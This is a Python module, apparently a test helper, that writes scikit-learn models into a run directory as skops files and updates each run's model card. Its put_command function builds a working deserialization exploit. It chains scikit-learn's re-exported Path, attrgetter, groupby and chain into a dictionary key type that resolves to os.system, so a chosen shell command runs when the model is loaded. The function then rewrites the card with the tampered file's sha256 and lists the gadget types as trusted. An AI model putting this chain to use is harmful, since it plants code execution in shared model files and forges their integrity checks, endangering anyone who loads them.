"""Model files of a stranger: a sound run directory whose `model.skops` and card are written over, with the right hash."""

from __future__ import annotations

import hashlib
import itertools
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

PATH = "sklearn.datasets._base.Path"
GETTER = "sklearn.feature_selection._base.attrgetter"
GROUPS = "sklearn.utils._testing.groupby"
CHAIN = "sklearn.compose._column_transformer.chain"
"""pathlib's, operator's and itertools' own, where scikit-learn's modules import them."""

_numbers = itertools.count(10**9)


def put(run: Path, model: Any, trusted: Sequence[str] = ()) -> None:
    """Make a model the run's own."""
    from skops import io

    io.dump(model, run / "model.skops")
    describe(run, trusted)


def put_command(run: Path, command: str) -> None:
    """Hide in the run's model an attribute that runs a shell's command as it is loaded.

    The "type" of a dictionary's key is what a chain of constructors makes of the file's arguments: `os.system`.
    """
    getter = _made(GETTER, _many("tuple", _json("_flavour.pathmod.os.system")))
    path = _made(PATH, _many("tuple", _json("x")))
    keys = _made(CHAIN, _made(GROUPS, _many("tuple", _many("list", path), getter)))
    attribute = _node("builtins.dict", "DictNode", key_types=keys, content={command: _json(1)})
    with zipfile.ZipFile(run / "model.skops") as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(held["schema.json"])
    schema["content"]["content"]["extra"] = attribute
    schema["content"]["key_types"]["content"].append(_node("builtins.str", "TypeNode"))
    held["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(run / "model.skops", "w") as archive:
        for name, data in held.items():
            archive.writestr(name, data)
    describe(run, [PATH, GETTER, GROUPS, CHAIN])


def describe(run: Path, trusted: Sequence[str]) -> None:
    """Write a card that fits the run's model file."""
    place = run / "model.json"
    digest = hashlib.sha256((run / "model.skops").read_bytes()).hexdigest()
    card = json.loads(place.read_text())
    place.write_text(json.dumps({**card, "trusted": list(trusted), "sha256": digest}))


def _node(cls: str, loader: str, **fields: Any) -> dict[str, Any]:
    module, _, name = cls.rpartition(".")
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": next(_numbers), **fields}


def _json(value: Any) -> dict[str, Any]:
    return _node("builtins.str", "JsonNode", content=json.dumps(value), is_json=True)


def _many(kind: str, *members: Any) -> dict[str, Any]:
    return _node(f"builtins.{kind}", f"{kind.title()}Node", content=list(members))


def _made(cls: str, arguments: Any) -> dict[str, Any]:
    return _node(cls, "ConstructorFromReduceNode", content=arguments)
